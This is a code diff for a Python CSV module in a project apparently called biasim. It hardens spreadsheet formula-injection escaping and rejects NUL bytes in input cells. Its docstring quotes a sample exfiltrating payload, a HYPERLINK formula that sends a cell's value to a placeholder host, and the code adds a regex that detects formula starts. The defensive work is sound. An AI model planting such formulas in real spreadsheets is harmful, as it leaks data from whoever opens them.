@@ -1,11 +1,12 @@
 """CSV tables in and out: every table biasim writes is safe to open in a spreadsheet, and every
 table it reads has one column per name.
 
-A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to
-Excel, LibreOffice and Google Sheets: a model's answer or a group label such as
-``=HYPERLINK("http://x?"&A1, "click")`` would run when a reviewer opens ``results.csv``. Such
-cells get a leading ``'`` (the OWASP CSV-injection rule); plain numbers such as ``-0.5`` are left
-as they are. The parquet tables keep every value exactly.
+A cell that starts with ``=``, ``+``, ``-``, ``@`` (or their full-width forms ``＝＋－＠``,
+which spreadsheets fold to them), after any spaces or line breaks, or with a tab or a carriage
+return, is a formula to Excel, LibreOffice and Google Sheets: a model's answer or a group label
+such as ``=HYPERLINK("http://x?"&A1, "click")`` would run when a reviewer opens ``results.csv``.
+Such cells get a leading ``'`` (the OWASP CSV-injection rule); plain numbers such as ``-0.5`` are
+left as they are. The parquet tables keep every value exactly.
 """
 
 from __future__ import annotations
@@ -23,10 +24,10 @@ from biasim.simulator.common.csvlimits import CsvLimits
 from biasim.simulator.common.errors import InputError, Problem
 from biasim.simulator.common.rundir import write_atomic
 
-#: First characters a spreadsheet reads as the start of a formula.
-FORMULA_START = "^[=+\\-@\t\r]"
+#: First characters a spreadsheet reads as the start of a formula (after leading blanks).
+FORMULA_START = "^([ \t\r\n]*[=+\\-@\uff1d\uff0b\uff0d\uff20]|[\t\r])"
 # A number is data, not a formula, even with a sign (`-0.5`, `+3e-2`).
-_NUMBER = r"^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$"
+_NUMBER = r"^ *[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)? *$"
 _FORMULA_RE = re.compile(FORMULA_START)
 _NUMBER_RE = re.compile(_NUMBER)
 
@@ -76,8 +77,8 @@ def read_csv(
     path: Path, what: str, limits: CsvLimits | None = None, *, empty_is_missing: bool = True
 ) -> pd.DataFrame:
     """Read a CSV of text cells (an empty cell is missing); refuse a duplicated column name or a
-    cell longer than ``limits.max_cell_chars`` (checked while streaming, before pandas holds
-    the file).
+    cell longer than ``limits.max_cell_chars`` or holding a NUL byte (checked while streaming,
+    before pandas holds the file).
 
     Args:
         path: The file.
@@ -86,7 +87,8 @@ def read_csv(
         empty_is_missing: Read an empty cell as missing (else as the empty string).
 
     Raises:
-        InputError: Unreadable, not a regular file, a column name written twice or a cell too long.
+        InputError: Unreadable, not a regular file, a column name written twice, a cell too long
+            or with a NUL byte.
     """
     limits = limits or CsvLimits()
     if not path.is_file():
@@ -115,25 +117,25 @@ def _check_cells(path: Path, max_chars: int) -> list[str]:
             reader = csv.reader(handle)
             header = next(reader, [])
             try:
-                for _ in reader:
-                    pass
+                for row in reader:
+                    if any("\x00" in cell for cell in row):
+                        raise _located(path, reader.line_num, "a NUL byte in a cell")
             except csv.Error as exc:
                 if "field larger than field limit" not in str(exc):
                     raise
-                raise InputError(
-                    [
-                        Problem(
-                            str(path),
-                            reader.line_num,
-                            "",
-                            f"a cell longer than the limit of {max_chars:,} characters "
-                            "(--max-cell-chars raises it)",
-                        )
-                    ]
+                raise _located(
+                    path,
+                    reader.line_num,
+                    f"a cell longer than the limit of {max_chars:,} characters "
+                    "(--max-cell-chars raises it)",
                 ) from None
     finally:
         csv.field_size_limit(previous)
     return header
+
+
+def _located(path: Path, line: int, message: str) -> InputError:
+    return InputError([Problem(str(path), line, "", message)])
 
 
 def check_group_count(frame: pd.DataFrame, columns: list[str], path: Path, limit: int) -> None:
